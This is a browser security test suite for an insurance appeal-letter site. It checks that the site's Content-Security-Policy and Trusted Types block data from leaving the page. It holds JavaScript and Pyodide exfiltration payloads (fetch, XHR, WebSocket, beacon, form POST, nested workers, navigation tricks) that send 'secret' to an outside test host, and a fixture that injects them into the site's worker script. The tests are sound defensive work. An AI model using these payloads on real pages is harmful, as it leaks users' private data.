"""The promise, attacked: from page script, from worker script, from Python in the worker. The other origin's log
stays empty. A worker started by URL does leak, and the test sees it."""

from __future__ import annotations

import re
import shutil
import threading

import pytest

from overrides.build.finish_site import REGISTER
from overrides.build.serve import make_server
from tests.scenarios import SCENARIOS, every
from tests.web.conftest import SITE, WITH_LATER, open_letter_page

PAGE_ATTACK = """async (other) => {
  const http = 'http://' + other, tries = [];
  const attempt = (name, act) => { try { tries.push(Promise.resolve(act()).catch(() => {})); } catch (error) { /* refused */ } };
  attempt('fetch', () => fetch(http + '/page-fetch?x=secret', { mode: 'no-cors' }));
  attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', http + '/page-xhr'); x.send(); });
  attempt('ws', () => new WebSocket('ws://' + other + '/page-ws'));
  attempt('events', () => new EventSource(http + '/page-events'));
  attempt('import', () => import(http + '/page-import.mjs'));
  attempt('beacon', () => navigator.sendBeacon(http + '/page-beacon', 'secret'));
  attempt('image', () => { new Image().src = http + '/page-image?x=secret'; });
  attempt('style', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = http + '/page-style'; document.head.append(l); });
  attempt('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = http + '/page-prefetch'; document.head.append(l); });
  attempt('script', () => { const s = document.createElement('script'); s.src = http + '/page-script'; document.head.append(s); });
  attempt('frame', () => { const f = document.createElement('iframe'); f.src = http + '/page-frame'; document.body.append(f); });
  attempt('font', () => { const f = new FontFace('x', `url(${http}/page-font)`); return f.load(); });
  attempt('media', () => { const v = document.createElement('video'); v.src = http + '/page-media'; v.load(); });
  attempt('worker', () => new Worker(http + '/page-worker'));
  attempt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.target = 'x'; f.action = http + '/page-form';
    const i = document.createElement('input'); i.name = 'x'; i.value = 'secret'; f.append(i); document.body.append(f); f.submit(); });
  await Promise.all(tries);
  await new Promise((done) => setTimeout(done, 600));
}"""

# What a hostile line in worker.mjs could do: JavaScript's ways, a nested worker from our own address, Python's ways.
WORKER_ATTACK = """
export async function attack(other, own) {
  const http = 'http://' + other, tries = [];
  const attempt = (act) => { try { tries.push(Promise.resolve(act()).catch(() => {})); } catch (error) { /* refused */ } };
  attempt(() => fetch(http + '/worker-fetch?x=secret', { mode: 'no-cors' }));
  attempt(() => { const x = new XMLHttpRequest(); x.open('GET', http + '/worker-xhr'); x.send(); });
  attempt(() => new WebSocket('ws://' + other + '/worker-ws'));
  attempt(() => new EventSource(http + '/worker-events'));
  attempt(() => import(http + '/worker-import.mjs'));
  attempt(() => new Worker(own + '?nested=' + encodeURIComponent(other), { type: 'module' }));
  attempt(() => globalThis.python.runPython(`
import js
request = js.XMLHttpRequest.new()
request.open("GET", "${http}/python-xhr", False)
request.send()`));
  attempt(() => globalThis.python.runPython(`
import js
js.fetch("${http}/python-fetch")
None`));
  attempt(() => globalThis.python.runPython(`
import js
js.WebSocket.new("ws://${other}/python-ws")
None`));
  await Promise.all(tries);
  await new Promise((done) => setTimeout(done, 800));
}
const nested = new URL(import.meta.url).searchParams.get('nested') ?? new URL(globalThis.location?.href ?? 'about:blank').searchParams?.get('nested');
if (nested) fetch('http://' + nested + '/nested-worker', { mode: 'no-cors' });
"""


@pytest.fixture
def hostile_site(tmp_path):
    """A copy of the site whose own worker script has turned hostile, with or without the blob start."""

    def make(*, by_url: bool) -> str:
        copy = tmp_path / "site"
        shutil.copytree(SITE, copy)
        (worker,) = copy.glob("assets/letter-*/worker.mjs")
        source = worker.read_text(encoding="utf-8").replace(
            "return await loadPyodide({", "return globalThis.python = await loadPyodide({"
        )
        assert "globalThis.python" in source
        listen = """
addEventListener("message", async (event) => {
  if (event.data.attack) { await attack(event.data.attack, import.meta.url); postMessage({ attacked: true }); }
});
"""
        by_hand = """
if (globalThis.location?.protocol !== "blob:") {
  addEventListener("message", async (event) => { await boot(event.data.addresses, false, () => {}); postMessage({ ready: true }); }, { once: true });
  postMessage({ listening: true });
}
"""
        worker.write_text(source + WORKER_ATTACK + listen + (by_hand if by_url else ""), encoding="utf-8")
        if by_url:
            page = copy / "letter" / "index.html"
            text = page.read_text(encoding="utf-8")
            page.write_text(
                text.replace("worker-src blob:", "worker-src 'self' blob:").replace(
                    "trusted-types letter-page", "trusted-types letter-page hostile"
                ),
                encoding="utf-8",
            )
        server = make_server(copy)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{server.server_port}/"

    return make


RUN_WORKER = """async ([other, byUrl]) => {
  const script = document.querySelector('script[src*="start.mjs"]').src;
  const { addresses } = await import(script);
  if (byUrl) {
    const plain = { createScriptURL: (address) => address };
    const policy = globalThis.trustedTypes?.createPolicy("hostile", plain) ?? plain;
    for (let tries = 3; tries; tries -= 1) {  // on a loaded machine a start can hang; it is only the sample that must leak
      const started = new Worker(policy.createScriptURL(addresses.worker), { type: 'module' });
      const says = (what, ms) => new Promise((done) => {
        setTimeout(() => done(false), ms);
        started.addEventListener('message', (e) => { if (e.data[what]) done(true); });
      });
      started.addEventListener('message', (e) => { if (e.data.listening) started.postMessage({ addresses }); });
      if (await says('ready', 45_000)) {
        started.postMessage({ attack: other });
        await says('attacked', 60_000);
        return;
      }
      started.terminate();
    }
    return;
  }
  const { Engine } = await import(script.replace('start.mjs', 'engine.mjs'));
  const engine = new Engine(addresses);
  await engine.start();
  engine.worker.postMessage({ attack: other });
  await new Promise((done) => { engine.worker.onmessage = (e) => e.data.attacked && done(); });
}"""


def test_page_script_cannot_send_anything(new_page, address, elsewhere):
    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
    page.evaluate(PAGE_ATTACK, elsewhere.origin)
    assert elsewhere.calls == []


def test_no_other_page_can_send_anything_either(new_page, address, elsewhere):
    for path in ("", "guides/", "guides/step-therapy/", "about/privacy/", "about/sources/"):
        page = new_page(**WITH_LATER)
        page.goto(address + path)
        page.evaluate(PAGE_ATTACK, elsewhere.origin)
        assert elsewhere.calls == [], path


def test_a_hostile_worker_and_hostile_python_cannot_send_anything(new_page, hostile_site, elsewhere):
    page = new_page(**WITH_LATER)
    page.goto(hostile_site(by_url=False) + "letter/")
    page.wait_for_selector("#letter-page[data-first=done]", timeout=60_000)
    page.evaluate(RUN_WORKER, [elsewhere.origin, False])
    assert elsewhere.calls == []


def test_the_attack_is_real_a_worker_started_by_url_leaks(new_page, hostile_site, elsewhere):
    page = new_page(**WITH_LATER)
    page.goto(hostile_site(by_url=True) + "letter/")
    page.wait_for_selector("#letter-page[data-first=done]", timeout=60_000)
    page.evaluate(RUN_WORKER, [elsewhere.origin, True])
    paths = " ".join(elsewhere.calls)
    for road in ("worker-fetch", "worker-xhr", "worker-import", "python-fetch", "python-xhr", "nested-worker"):
        assert road in paths, road


def test_without_the_policy_the_page_attack_gets_through(new_page, tmp_path, elsewhere):
    """The sample that makes the page test fail: the same site with the policy tag taken out."""
    copy = tmp_path / "site"
    shutil.copytree(SITE, copy)
    page_file = copy / "letter" / "index.html"
    text = page_file.read_text(encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert bare != text
    page_file.write_text(bare, encoding="utf-8")
    server = make_server(copy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = new_page(**WITH_LATER)
    page.goto(f"http://127.0.0.1:{server.server_port}/letter/")
    page.evaluate(PAGE_ATTACK, elsewhere.origin)
    assert any("secret" in call for call in elsewhere.calls)
    server.shutdown()


def test_every_page_has_the_policy_before_any_script(site):
    pages = list(site.rglob("*.html"))
    assert len(pages) > 8
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert text.count("Content-Security-Policy") == 1, path
        before = text[: text.index("Content-Security-Policy")]
        assert before.count("<script") == before.count(REGISTER) == (path.parent.name == "letter"), path
        policy = re.search(r'Security-Policy" content="([^"]*)"', text)[1]
        for part in ("default-src 'none'", "connect-src 'self'", "form-action 'none'", "base-uri 'none'"):
            assert part in policy, path
        assert "unsafe-inline" not in policy
        assert "'unsafe-eval'" not in policy
        assert "http:" not in policy
    letter = (site / "letter" / "index.html").read_text(encoding="utf-8")
    assert "worker-src blob:;" in letter
    assert "require-trusted-types-for 'script'; trusted-types letter-page" in letter


CANARY = "Quillfeather"


def test_nothing_typed_becomes_a_link_a_form_target_or_a_location(new_page, address):
    """Navigation is the one road a policy cannot close, so nothing typed may ever be on it."""
    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
    requests = []
    page.on("request", lambda request: requests.append(request.url + (request.post_data or "")))
    logs = []
    page.on("console", lambda message: logs.append(message.text))
    typed = f"http://e.example/{CANARY} javascript:alert('{CANARY}') [{CANARY}](http://e.example/{CANARY})"
    for control in page.locator("#case input[type=text], #case textarea").all():
        if control.is_visible():
            control.fill(typed)
    page.locator("[name='reasons.0.kind']").select_option("other_reason")
    page.wait_for_selector(f"#letter:has-text('{CANARY}')")
    for button in ("#check", "#read-denial", "#save-case", "#save-text", "#save-word"):
        page.evaluate("button => document.querySelector(button).click()", button)
        page.wait_for_timeout(150)
    found = page.evaluate(
        """(canary) => [...document.querySelectorAll('*')].flatMap((element) =>
          ['href', 'src', 'action', 'formaction', 'data', 'srcset', 'poster', 'ping', 'target', 'cite', 'background']
            .filter((name) => (element.getAttribute(name) || '').includes(canary)).map((name) => element.tagName + ' ' + name))""",
        CANARY,
    )
    assert found == []
    assert page.evaluate("document.forms.length") >= 1
    assert page.evaluate("[...document.forms].every((form) => !form.getAttribute('action'))")
    assert CANARY not in page.url + page.title()
    assert not [url for url in requests if CANARY in url]
    assert not [line for line in logs if CANARY in line]
    stored = page.evaluate(
        "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state])"
    )
    assert CANARY not in stored
    page.wait_for_selector("#letter-page[data-kept]", timeout=60_000)
    kept = page.evaluate(
        """async (canary) => {
          const found = [];
          for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            for (const request of await cache.keys()) {
              const bytes = new Uint8Array(await (await cache.match(request)).arrayBuffer());
              let at = -1;
              for (const text of [canary, [...canary].join('\\0'), [...canary].join('\\0\\0\\0')]) {
                const wanted = new TextEncoder().encode(text);
                while ((at = bytes.indexOf(wanted[0], at + 1)) >= 0) {
                  if (wanted.every((byte, n) => bytes[at + n] === byte)) { found.push(request.url); break; }
                }
              }
            }
          }
          return [found, await caches.keys()];
        }""",
        CANARY,
    )
    assert kept[0] == []
    assert all(name.startswith("/infusion-appeals/.") for name in kept[1])
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
    page.keyboard.press("Enter")
    assert page.url == address + "letter/#all"


def test_no_page_but_the_letter_page_loads_python(new_page, address):
    page = new_page(**WITH_LATER)
    urls = []
    page.on("request", lambda request: urls.append(request.url))
    for path in ("", "guides/", "about/privacy/"):
        page.goto(address + path)
        page.wait_for_timeout(200)
    assert not [url for url in urls if "runtime-" in url or ".wasm" in url]


@pytest.mark.parametrize("scenario", every(10, 1))
def test_nothing_comes_from_another_origin(new_page, address, scenario):
    page = new_page(**WITH_LATER)
    urls = []
    page.on("request", lambda request: urls.append(request.url))
    open_letter_page(page, address)
    page.set_input_files("#open-case", scenario.case_file)
    page.wait_for_selector("#letter h2")
    for path in ("", "guides/", "guides/step-therapy/", "about/sources/"):
        page.goto(address + path)
    origin = address.split("/infusion")[0]
    assert not [url for url in urls if not url.startswith((origin, "blob:", "data:"))]


ROADS = {
    "location": "location = url",
    "assign": "location.assign(url)",
    "replace": "location.replace(url)",
    "a link clicked by script": "const a = document.createElement('a'); a.href = url; document.body.append(a); a.click()",
    "a download of another place": "const a = document.createElement('a'); a.href = url; a.download = 'x'; document.body.append(a); a.click()",
    "meta refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + url; document.head.append(m)",
    "a form": "const f = document.createElement('form'); f.action = url; document.body.append(f); f.submit()",
    "a window": "open(url)",
    "the window's own open": "Window.prototype.open ? Window.prototype.open.call(window, url) : window.open(url)",
    "an address of our own host": "location = '/infusion-appeals/guides/?x=secret'",
}
CALLS = "typeof RTCPeerConnection + typeof webkitRTCPeerConnection + typeof WebTransport"


def test_no_script_takes_the_reader_of_the_letter_page_elsewhere(new_page, address, elsewhere):
    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
    with page.expect_download():  # a file that was made here is handed over
        page.set_input_files("#open-case", SCENARIOS[0].case_file)
        page.wait_for_selector("#letter h2", state="attached")
        page.evaluate("document.getElementById('save-text').click()")
    for name, script in ROADS.items():
        page.evaluate(
            f"(url) => {{ try {{ {script} }} catch (error) {{ /* refused */ }} }}",
            f"http://{elsewhere.origin}/?x=secret",
        )
        page.wait_for_timeout(150)
        assert page.url == address + "letter/#all", name
    assert elsewhere.calls == []
    assert page.evaluate(CALLS) == "undefined" * 3


def test_a_persons_own_click_leaves_the_letter_page(new_page, address):
    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
    page.click(".site-menu > summary")
    page.click(".site-menu a[href$='guides/']")
    page.wait_for_url(address + "guides/")


def test_the_roads_are_real_a_page_without_the_guard_is_left(new_page, address, elsewhere):
    page = new_page(**WITH_LATER)
    page.goto(address + "guides/")
    page.evaluate("(url) => { location = url; }", f"http://{elsewhere.origin}/?x=secret")
    page.wait_for_url("**/?x=secret")
    assert any("secret" in call for call in elsewhere.calls)


def test_only_the_letter_may_become_html_and_only_a_blob_a_worker(new_page, address):
    page = open_letter_page(new_page(**WITH_LATER), address, keep=True)
    refused = page.evaluate(
        """async () => {
          const tries = { html: () => { document.createElement('div').innerHTML = '<b>x</b>'; },
            script: () => { document.createElement('script').src = '/x.js'; },
            worker: () => new Worker('/x.js'), policy: () => trustedTypes.createPolicy('letter-page', {}) };
          const { letterHtml, workerAddress } = await import(document.querySelector('script[src*="start.mjs"]').src.replace('start', 'guard'));
          for (const html of ['<script>x</' + 'script>', '<a href="x">', '<p onclick="x">', '<img src=x>']) tries[html] = () => letterHtml(html);
          tries.address = () => workerAddress('https://e.example/');
          return Object.entries(tries).filter(([, act]) => { try { act(); return false; } catch { return true; } }).length;
        }"""
    )
    assert refused == 9
